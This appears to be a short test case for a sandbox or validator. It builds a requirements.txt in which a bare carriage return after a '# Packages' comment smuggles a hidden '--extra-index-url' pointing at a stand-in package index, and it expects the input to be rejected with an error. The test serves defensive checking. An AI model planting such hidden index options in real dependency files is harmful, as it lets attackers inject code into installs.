#: An option behind a bare carriage return, which pip takes for the end of a comment's line.
#: exit: 1 or 70
#: says: requirements.txt: line
#: run: sandbox prepare web
from attack import *

requirements("# Packages\r--extra-index-url https://pypi.example/simple\nsafe==1.0 --hash=sha256:" + "0" * 64 + "\n")
